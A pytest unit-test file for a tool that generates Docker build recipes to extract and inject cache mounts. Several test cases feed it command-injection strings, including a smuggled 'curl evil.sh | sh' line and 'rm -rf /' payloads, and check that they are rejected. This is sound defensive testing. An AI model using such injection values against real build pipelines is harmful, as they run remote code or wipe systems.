"""Unit tests for recipe generation."""

import pytest

from cache_dance.build.recipe import (
    RecipeValues,
    generate_extract_recipe,
    generate_inject_recipe,
    write_recipe,
)
from cache_dance.cache_map.options import BareTarget, MountOptions
from cache_dance.exceptions import SecurityError

IMAGE = "ghcr.io/containerd/busybox:latest"


class TestRecipeValues:
    """Tests for RecipeValues.from_options."""

    def test_collects_values(self):
        values = RecipeValues.from_options(
            MountOptions("/go/pkg/mod", (("id", "go-mod"), ("uid", 1000))), IMAGE
        )
        assert values.image == IMAGE
        assert values.target == "/go/pkg/mod"
        assert values.mount_args == "type=cache,target=/go/pkg/mod,id=go-mod,uid=1000"
        assert values.uid == "1000"
        assert values.gid == ""

    @pytest.mark.parametrize(
        "options",
        [
            BareTarget("/tmp/x\nRUN curl evil.sh | sh"),
            BareTarget("/tmp/$(id)"),
            MountOptions("/x", (("id", "a b"),)),
            MountOptions("/x", (("uid", "0;rm -rf /"),)),
        ],
    )
    def test_rejects_injection(self, options):
        with pytest.raises(SecurityError):
            RecipeValues.from_options(options, IMAGE)

    @pytest.mark.parametrize(
        "options",
        [
            BareTarget("/tmp/%cache"),
            BareTarget("/var/caché"),
            MountOptions("/x", (("id", "user@host"),)),
            MountOptions("/x", (("uid", "+1000"),)),
        ],
    )
    def test_rejects_values_outside_allowed_set(self, options):
        with pytest.raises(SecurityError, match="outside"):
            RecipeValues.from_options(options, IMAGE)

    def test_image_may_use_registry_syntax(self):
        image = "ghcr.io/org/tool@sha256:0123abcd"
        assert RecipeValues.from_options(BareTarget("/x"), image).image == image

    def test_rejects_unsafe_image(self):
        with pytest.raises(SecurityError, match="utility image"):
            RecipeValues.from_options(BareTarget("/x"), "busybox && rm -rf /")

    def test_ownership_command(self):
        assert RecipeValues(IMAGE, "/x", "type=cache,target=/x").ownership_command == ""
        values = RecipeValues(IMAGE, "/x", "type=cache,target=/x", uid="1000", gid="1000")
        assert values.ownership_command == " && chown -R 1000:1000 /x"


class TestGenerateRecipes:
    """Tests for the extract and inject recipe text."""

    def test_extract_recipe(self):
        values = RecipeValues.from_options(BareTarget("/var/cache/apt"), IMAGE)
        assert generate_extract_recipe(values) == (
            "\n"
            f"FROM {IMAGE}\n"
            "COPY buildstamp buildstamp\n"
            "RUN --mount=type=cache,target=/var/cache/apt \\\n"
            "    mkdir -p /var/dance-cache/ \\\n"
            "    && cp -p -R /var/cache/apt/. /var/dance-cache/ || true\n"
        )

    def test_inject_recipe_cp(self):
        values = RecipeValues.from_options(BareTarget("/var/cache/apt"), IMAGE)
        assert generate_inject_recipe(values) == (
            "\n"
            f"FROM {IMAGE}\n"
            "COPY buildstamp buildstamp\n"
            "RUN --mount=type=cache,target=/var/cache/apt \\\n"
            "    --mount=type=bind,source=.,target=/var/dance-cache \\\n"
            "    cp -p -R /var/dance-cache/. /var/cache/apt || true\n"
        )

    def test_inject_recipe_rsync_with_ownership(self):
        values = RecipeValues.from_options(
            MountOptions("/root/.npm", (("uid", 1000), ("gid", 1000))), IMAGE
        )
        recipe = generate_inject_recipe(values, rsync=True)
        assert (
            "rsync -a --ignore-existing /var/dance-cache/ /root/.npm/"
            " && chown -R 1000:1000 /root/.npm || true" in recipe
        )
        assert "--mount=type=cache,target=/root/.npm,uid=1000,gid=1000" in recipe

    def test_discovered_mount_keeps_id(self):
        values = RecipeValues.from_options(
            MountOptions("/var/cache-target", (("id", "/tmp/cache"),)), IMAGE
        )
        recipe = generate_extract_recipe(values)
        assert "--mount=type=cache,target=/var/cache-target,id=/tmp/cache" in recipe
        assert "cp -p -R /var/cache-target/. /var/dance-cache/" in recipe


def test_write_recipe_creates_parent(tmp_path):
    path = write_recipe("FROM busybox\n", tmp_path / "scratch" / "Dancefile.extract")
    assert path.read_text() == "FROM busybox\n"
